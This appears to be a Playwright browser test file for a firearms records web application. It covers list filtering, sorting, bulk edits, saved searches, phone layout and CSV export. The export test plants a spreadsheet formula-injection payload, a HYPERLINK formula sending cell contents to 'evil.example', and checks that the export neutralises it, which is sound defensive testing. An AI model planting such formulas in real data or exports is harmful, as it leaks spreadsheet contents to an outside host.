"""A list in the browser: filter, sort, export as CSV (formulas neutralised), and on a phone."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from armsbridge.db.engine import engine_from_settings
from armsbridge.db.session import make_sessionmaker, session_scope
from armsbridge.records import service as records
from principals import as_actor

from .conftest import assert_fits_phone, shot, sign_in

pytestmark = pytest.mark.browser
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def rifles(node: dict[str, Any]) -> dict[str, Any]:
    """MK rifles, one whose make a spreadsheet would run as a formula."""
    engine = engine_from_settings(node["settings"])
    try:
        with session_scope(make_sessionmaker(engine)) as s:
            for n, make in enumerate([FORMULA, "Mauser", "Zastava"]):
                records.create_record(
                    s,
                    record_type="firearm",
                    user=as_actor("test", "MK"),
                    data={
                        "jurisdiction": "MK",
                        "make": make,
                        "model": f"R{n}",
                        "kind": "rifle",
                        "external_ref": f"browser-rifle-{n}",
                    },
                )
    finally:
        engine.dispose()
    return node


def test_filter_sort_and_export_a_list(page, rifles) -> None:
    node = rifles
    sign_in(page, node, "mk-analyst")
    page.goto(f"{node['url']}/records/firearms")
    page.get_by_label("Kind").select_option("rifle")  # the form submits itself on change
    page.wait_for_url(re.compile(r"kind=rifle"))
    page.locator("#record-list thead a[data-sort=make]").click()
    page.wait_for_url(re.compile(r"sort=make&dir=asc"))
    assert "kind=rifle" in page.url  # sorting kept the filter
    makes = page.locator("#record-list tbody tr td.title a").all_inner_texts()
    assert FORMULA in makes and "Mauser" in makes
    assert makes == sorted(makes)
    shot(page, "list-filtered")
    with page.expect_download() as download:
        page.locator("#export-csv").click()
    path = download.value.path()
    assert download.value.suggested_filename.endswith(".csv")
    rows = list(csv.reader(io.StringIO(Path(path).read_text(encoding="utf-8-sig"))))
    assert rows[0][:2] == ["Make", "Model"]
    made = [r[0] for r in rows[1:]]
    assert "'" + FORMULA in made  # shown as text by a spreadsheet, never run
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert all(row[0] for row in rows[1:]) and len(rows) - 1 == len(makes)


def test_choose_rows_change_them_and_save_the_search(page, rifles) -> None:
    node = rifles
    sign_in(page, node, "mk-analyst")
    page.goto(f"{node['url']}/records/firearms?kind=rifle")
    boxes = page.locator('#record-list input[name="ids"]')
    shown = boxes.count()
    page.get_by_label("Choose every record on this page").check()
    assert all(boxes.nth(i).is_checked() for i in range(shown))
    page.get_by_label("Choose every record on this page").uncheck()
    for n in range(3):  # the three rifles of this test, found by their model
        row = page.locator("#record-list tbody tr", has_text=f"R{n}").filter(
            has=page.locator("td", has_text=re.compile(rf"^R{n}$"))
        )
        row.locator('input[name="ids"]').check()
    page.get_by_label("New handling code").select_option("H1")
    page.locator("#set-code").click()
    page.wait_for_url(re.compile(r"kind=rifle"))
    assert page.locator("#page-notice").inner_text() == "3 records changed."
    page.reload()
    expect(page.locator("#page-notice")).to_have_count(0)  # said once
    page.get_by_placeholder("Name of this search").fill("Rifles")
    page.get_by_role("button", name="Save this search").click()
    assert page.locator("#page-notice").inner_text() == "Search saved."
    page.goto(f"{node['url']}/records/firearms")
    page.locator("#saved-searches a", has_text="Rifles").click()
    page.wait_for_url(re.compile(r"kind=rifle"))
    expect(page.locator("#record-list tbody tr")).to_have_count(shown)


def test_a_list_on_a_phone_has_no_page_scroll(phone, rifles) -> None:
    node = rifles
    sign_in(phone, node, "mk-analyst")
    cols = "make,model,calibre,category,serial_raw,kind,status,markings,updated_at"
    phone.goto(f"{node['url']}/records/firearms?cols={cols}")
    assert_fits_phone(phone)
    # the filters fold away on a phone; the summary opens them
    expect(phone.locator("#list-filters")).not_to_be_visible()
    shot(phone, "list-phone")
    phone.locator(".list-filters summary").click()
    expect(phone.locator("#list-filters")).to_be_visible()
    assert_fits_phone(phone)
